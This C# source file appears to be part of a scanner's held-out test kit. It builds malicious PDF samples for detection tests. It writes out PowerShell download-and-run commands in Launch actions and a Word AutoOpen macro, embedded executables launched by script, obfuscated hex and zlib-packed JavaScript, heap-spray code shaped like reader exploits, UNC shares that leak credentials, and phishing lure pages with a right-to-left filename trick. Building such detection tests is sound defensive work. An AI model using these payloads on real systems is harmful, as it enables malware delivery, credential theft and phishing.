using System.IO.Compression;
using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>A portable document that starts a program or carries one and has it opened.</summary>
public sealed class PaperThatStartsAProgram : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("form.pdf", new PdfBuilder()
            .Catalogue("/OpenAction 4 0 R")
            .Add(4, "<< /Type /Action /S /Launch /Win << /F (cmd.exe) /D (c:\\\\windows\\\\system32) /P (/Q /C %HOMEDRIVE%&cd %HOMEPATH%&powershell -w hidden iwr http://192.0.2.231/f.exe -OutFile f.exe;./f.exe\n\n\nTo view the encrypted content please tick the \"Do not show this message again\" box and press Open.) >> >>")
            .Build());

        yield return ("Angebot_4711.pdf", new PdfBuilder()
            .Catalogue("/Names << /EmbeddedFiles << /Names [(Angebot.exe) 5 0 R] >> /JavaScript << /Names [(start) 7 0 R] >> >>")
            .Add(5, "<< /Type /Filespec /F (Angebot.exe) /UF (Angebot.exe) /EF << /F 6 0 R >> >>")
            .Stream(6, "/Type /EmbeddedFile /Subtype /application#2Foctet-stream", Carriers.Program())
            .Add(7, "<< /S /JavaScript /JS (this.exportDataObject\\({ cName: \"Angebot.exe\", nLaunch: 2 }\\);) >>")
            .Build());

        yield return ("Remittance advice.pdf", new PdfBuilder()
            .Catalogue("/OpenAction << /S /JavaScript /JS 7 0 R >> /Names << /EmbeddedFiles << /Names [(has been verified. However PDF, Jpeg, xlsx, .docm) 5 0 R] >> >>")
            .Add(5, "<< /Type /Filespec /F (has been verified. However PDF, Jpeg, xlsx, .docm) /EF << /F 6 0 R >> >>")
            .Stream(6, "/Type /EmbeddedFile", OoxmlBuilder.Word().WithMacros(Project("ThisDocument", """
                Sub AutoOpen()
                    Shell "powershell -w hidden -c iex(irm http://203.0.113.231/r)", 0
                End Sub
                """)).Build())
            .Stream(7, "", Utf8("this.exportDataObject({ cName: \"has been verified. However PDF, Jpeg, xlsx, .docm\", nLaunch: 2 });"))
            .Build());

        // Names written with number signs, the script packed, in hexadecimal pieces, acting on the page's opening.
        yield return ("letter.pdf", new PdfBuilder()
            .Catalogue("/N#61mes << /E#6dbeddedFiles << /Names [(l) 5 0 R] >> >>")
            .Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /A#41 << /O << /S /J#61v#61Scr#69pt /J#53 8 0 R >> >> >>")
            .Add(5, "<< /Type /F#69lespec /F (letter.html) /EF << /F 6 0 R >> >>")
            .Stream(6, "/Type /EmbeddedFile /Filter /FlateDecode", Packed("<script>location='search-ms:query=letter&crumb=location:\\\\\\\\198.51.100.231@80\\\\l&displayname=Letters'</script>"))
            .Stream(8, "/F#69lter [/ASCIIHexDecode /Fl#61teDecode]", Utf8(Convert.ToHexString(Packed("var a=['export','Data','Object'];this[a.join('')]({cName:'l',['nLa'+'unch']:2});")) + ">"))
            .Build());
    }

    private static byte[] Packed(string text)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            zlib.Write(Encoding.UTF8.GetBytes(text));
        return packed.ToArray();
    }
}

/// <summary>A portable document whose script has the shape of the reader's known exploits, or that sends a sign-in to a foreign share.</summary>
public sealed class PaperWithExploitShape : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("catalog.pdf", new PdfBuilder()
            .Catalogue("/OpenAction 4 0 R")
            .Add(4, "<< /S /JavaScript /JS 5 0 R >>")
            .Stream(5, "", Utf8(Fill("""
                var sc = unescape("@@1");
                var nop = unescape("%u9090%u9090");
                while (nop.length < 0x40000) nop += nop;
                var mem = new Array();
                for (var i = 0; i < 200; i++) mem[i] = nop.substring(0, 0x40000 - sc.length) + sc;
                var num = 12999999999999999999888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888888;
                util.printf("%45000f", num);
                """, string.Concat(Enumerable.Repeat("%u9090", 120)) + "%uc3c3")))
            .Build());

        yield return ("Bericht.pdf", new PdfBuilder()
            .Catalogue("/Names << /JavaScript << /Names [(x) 5 0 R] >> >>")
            .Add(5, "<< /S /JavaScript /JS (var b = unescape\\('%u0c0c%u0c0c'\\); while \\(b.length < 32768\\) b += b; var s = []; for \\(i = 0; i < 500; i++\\) s[i] = b + unescape\\('%u9090%u9090%u9090%u9090%u9090%uc3c3'\\); Collab.getIcon\\(b.substr\\(0, 16384\\) + '_N.bundle'\\); this.media.newPlayer\\(null\\);) >>")
            .Build());

        yield return ("agreement.pdf", new PdfBuilder()
            .Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoToE /F (\\\\\\\\203.0.113.240\\\\test) /D [0 /Fit] >> >> >>")
            .Build());

        // The share in the form's own language, the address put together from a field's value.
        yield return ("tax form.pdf", new PdfBuilder()
            .Catalogue("/AcroForm << /Fields [6 0 R] /XFA 7 0 R /NeedAppearances true >> /OpenAction << /S /JavaScript /JS (var h = this.getField\\('n'\\).value.split\\('-'\\).map\\(function\\(c\\){return String.fromCharCode\\(c\\)}\\).join\\(''\\); this.submitForm\\({cURL: h, cSubmitAs: 'XFDF'}\\); app.openDoc\\(h\\);) >>")
            .Add(6, $"<< /FT /Tx /T (n) /Ff 2 /V ({Codes("\\\\198.51.100.240\\x\\a.pdf", between: "-")}) >>")
            .Stream(7, "", Utf8("""
                <xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><?xml-stylesheet href="\\198.51.100.240\x\s.xslt" type="text/xsl"?><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform name="f"><event activity="docReady"><script contentType="application/x-javascript">xfa.host.gotoURL("\\\\198.51.100.240\\x");</script></event></subform></template></xdp:xdp>
                """))
            .Build());
    }
}

/// <summary>A portable document of one page that shows a blurred paper or a notice and has a link to a download or a sign-in under it.</summary>
public sealed class PaperWithBaitedLink : SixthRound
{
    private static byte[] Page(string text, string link, (int Width, int Height) picture, string rectangle = "0 0 595 842") => new PdfBuilder()
        .Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /I 6 0 R >> >> /Annots [5 0 R] >>")
        .Stream(4, "", Encoding.Latin1.GetBytes($"q 595 0 0 842 0 0 cm /I Do Q BT /F1 18 Tf 90 460 Td {string.Join(" 0 -26 Td ", text.Split('\n').Select(line => $"({line}) Tj"))} ET"))
        .Add(5, $"<< /Type /Annot /Subtype /Link /Rect [{rectangle}] /Border [0 0 0] /A << /S /URI /URI ({link}) >> >>")
        .Stream(6, $"/Type /XObject /Subtype /Image /Width {picture.Width} /Height {picture.Height} /ColorSpace /DeviceGray /BitsPerComponent 8", [.. Enumerable.Range(0, picture.Width * picture.Height).Select(at => (byte)(190 + (at * 7 % 60)))])
        .Build();

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Document_SCN_2311.pdf", Page("This document is protected by Adobe.\nPreview is not available.\nClick OPEN to download the document.\nPassword: K771", "http://203.0.113.251/docs/Document_SCN_2311.zip", (60, 84)));

        yield return ("Rechnung_Telekom.pdf", Page("Microsoft OneDrive\nSie haben eine sichere Datei erhalten.\nDOKUMENT ANSEHEN\nMelden Sie sich mit Ihrem E-Mail-Konto an.", "https://onedrive-freigabe.docs-share.test/anmelden/?u=albers@seitz-pumpen.example", (120, 160), "150 380 450 440"));

        yield return ("Court_order.pdf", Page("The content is encrypted.\nYour Acrobat Reader is out of date.\nPress UPDATE to see the document.", "https://cdn.discordapp.com/attachments/000000000000000000/000000000000000000/AcrobatUpdate.js", (60, 84)));

        // No text at all, the whole page a picture, three redirections in the address and a name with a right-to-left mark.
        yield return ("Paymentcopy\u202Efdp.pdf", Page(" ", "https://www.bing.com/ck/a?!&&u=a1aHR0cHM6Ly9zc28uZG9jcy1zaGFyZS50ZXN0L3Bk&ntb=1&r=https://t.co/0000000000?e=#dana@kestrel-foods.example", (200, 280)));
    }
}
